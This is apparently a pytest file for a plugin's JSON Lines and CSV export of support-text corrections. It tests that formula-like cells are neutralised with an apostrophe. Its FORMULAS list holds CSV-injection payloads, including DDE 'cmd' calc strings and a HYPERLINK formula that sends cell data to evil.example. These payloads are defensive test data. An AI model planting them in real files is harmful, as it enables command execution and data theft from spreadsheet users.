"""Corrections taken out: exactly as JSON Lines, and as CSV that no spreadsheet runs."""

import csv
import io
import json
import tracemalloc
import unicodedata
from collections.abc import Iterator, Sequence

import pytest
from hypothesis import given
from hypothesis import strategies as st

from plugin.learning.exports import FIELDS, csv_lines, json_lines, plain_cell, records
from plugin.models import Outcome
from plugin.store import corrections
from plugin.store.columns import Keyring
from plugin.store.engine import Database
from plugin.store.schema import CorrectionRow
from plugin.store.scope import Scope
from tests.bench.databases import KEY
from tests.cli.support import Shell, settings_of
from tests.hostile.merchant import as_kept
from tests.hostile.texts import TEXTS
from tests.store.support import AT, Owner, add_draft, owner

FORMULAS = [
    *("=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "\ttext", "\rtext", "\ntext"),
    *(" =1", "   +1", "\u00a0=1", "\u3000@x", '"=1', "'=1", "' \"-1", "\u200b=1", "\ufeff=1"),
    *(
        "\uff1d1",
        "\uff0b1",
        "\uff0d1",
        "\uff20x",
        "\ufe661",
        "\ufe621",
        "\ufe631",
        "\ufe6bx",
        "\u207a1",
        "\u208c1",
        " \uff1d1",
        "\u202e=1",
        "\x00=1",
    ),
    *("=cmd|'/c calc'!A0", "-2+3+cmd|' /C calc'!D2", '=HYPERLINK("http://evil.example?"&A1)'),
    *("\x1b=1", "\u0301=1", "\x85=1", "\u2028=1"),
]
HARMLESS = ["", "a", "Hi, =1", "1-2", "a@b.example", "3 + 4", "“=1”", "مرحبا", "—", "· -", "(+1)"]


def is_formula(cell: str) -> bool:
    """Whether a spreadsheet would run a cell: what it drops, folds or passes over is gone."""
    folded = unicodedata.normalize("NFKC", cell)
    seen = "".join(one for one in folded if unicodedata.category(one) not in {"Cf", "Cc", "Mn"})
    return seen.strip(' "\u2028\u2029').startswith(tuple("=+-@")) or cell[:1] in set("\t\r\n")


def sheet(text: str) -> Sequence[dict[str, str]]:
    """What a spreadsheet reads: every cell, and as many in each row."""
    rows = list(csv.DictReader(io.StringIO(text, newline=""), strict=True))
    for row in rows:
        assert None not in row
        assert None not in row.values()
        assert not [cell for cell in row.values() if is_formula(cell)]
    return rows


@pytest.fixture
def database(database_url: str) -> Iterator[Database]:
    Keyring.use((KEY,))
    database = Database(database_url)
    yield database
    database.close()


def correct(database: Database, of: Owner, texts: Sequence[tuple[str, str]]) -> None:
    """One correction for each pair of what was drafted and what was sent."""
    draft = add_draft(database, of)
    with database.write() as session:
        for number, (drafted, sent) in enumerate(texts):
            corrections.add(
                session,
                of.scope,
                CorrectionRow(
                    draft_id=draft.id,
                    account_id=of.account_id,
                    ticket_id="7",
                    message_id=str(number),
                    author="person:1",
                    draft_text=drafted,
                    final_text=sent,
                    outcome=Outcome.REWRITTEN,
                    material=True,
                    hter=0.5,
                    similarity=0.25,
                    ops=[],
                    created_at=AT,
                ),
            )


def exported(database: Database, scope: Scope, form: str) -> str:
    with database.read() as session:
        found = records(session, scope)
        return "".join(csv_lines(found) if form == "csv" else json_lines(found))


def test_texts_are_exact_in_json_lines_and_no_formulas_in_csv(database: Database) -> None:
    of = owner(database)
    texts = [*FORMULAS, *HARMLESS, *TEXTS.values(), "a;=1\n\"b\",'c'", "x" * 50_000]
    correct(database, of, [(text, f"x{text}") for text in texts])
    rows = sheet(exported(database, of.scope, "csv"))
    lines = [json.loads(line) for line in exported(database, of.scope, "jsonl").splitlines()]
    assert len(rows) == len(lines) == len(texts)
    for text, row, line in zip(texts, rows, lines, strict=True):
        kept = as_kept(text)
        assert tuple(row) == tuple(line) == FIELDS
        assert (line["draft_text"], line["final_text"]) == (kept, f"x{kept}")
        assert row["draft_text"] in {kept, f"'{kept}"}
        assert row["final_text"] == f"x{kept}"
        assert (line["hter"], line["material"]) == (0.5, True)
    assert [line["message"] for line in lines] == [str(number) for number in range(len(texts))]


def test_no_other_merchants_corrections_are_taken_out(database: Database) -> None:
    ours, theirs = owner(database), owner(database, "Other")
    correct(database, theirs, [("secret", "words")])
    assert exported(database, ours.scope, "jsonl") == ""
    assert exported(database, ours.scope, "csv").count("\r\n") == 1


@pytest.mark.parametrize("text", FORMULAS)
def test_a_formula_gets_one_apostrophe(text: str) -> None:
    assert is_formula(text.lstrip("' "))
    assert plain_cell(text) == f"'{text}"


@pytest.mark.parametrize("text", HARMLESS)
def test_other_text_is_left_alone(text: str) -> None:
    assert plain_cell(text) == text


@given(st.text(max_size=12) | st.text(alphabet=" \t\r\n'\"=+-@\uff1d\u200b\u0301a", max_size=8))
def test_no_cell_is_a_formula(text: str) -> None:
    assert not is_formula(plain_cell(text))
    assert plain_cell(text) in {text, f"'{text}"}


def test_an_export_is_streamed(database: Database) -> None:
    """Thousands of long texts are never in memory at once, nor is the export."""
    of = owner(database)
    correct(database, of, [("x" * 8_000, "y" * 8_000)] * 500)
    with database.read() as session:
        tracemalloc.start()
        written = sum(len(line) for line in csv_lines(records(session, of.scope)))
        peak = tracemalloc.get_traced_memory()[1]
        tracemalloc.stop()
    assert written > 8_000_000
    assert peak < written / 2


def test_the_command_writes_utf_8_and_refuses_an_unknown_merchant(
    database_url: str, database: Database, tmp_path_factory: pytest.TempPathFactory
) -> None:
    of = owner(database)
    correct(database, of, [("=1 é📦", "grüße")])
    folder = tmp_path_factory.mktemp("shell")
    shell = Shell(settings_of(database_url, folder), folder)
    export = ("corrections", "export", "--merchant")
    (row,) = sheet(shell(*export, of.scope.merchant_id, "--format", "csv").out)
    assert (row["draft_text"], row["final_text"]) == ("'=1 é📦", "grüße")
    for form in ((), ("--format", "jsonl")):
        (line,) = shell(*export, of.scope.merchant_id, *form).records
        assert line["draft_text"] == "=1 é📦"
    nobody = shell(*export, "nobody")
    assert (nobody.code, nobody.out) == (2, "")
    assert shell(*export, of.scope.merchant_id, "--format", "xls").code == 2
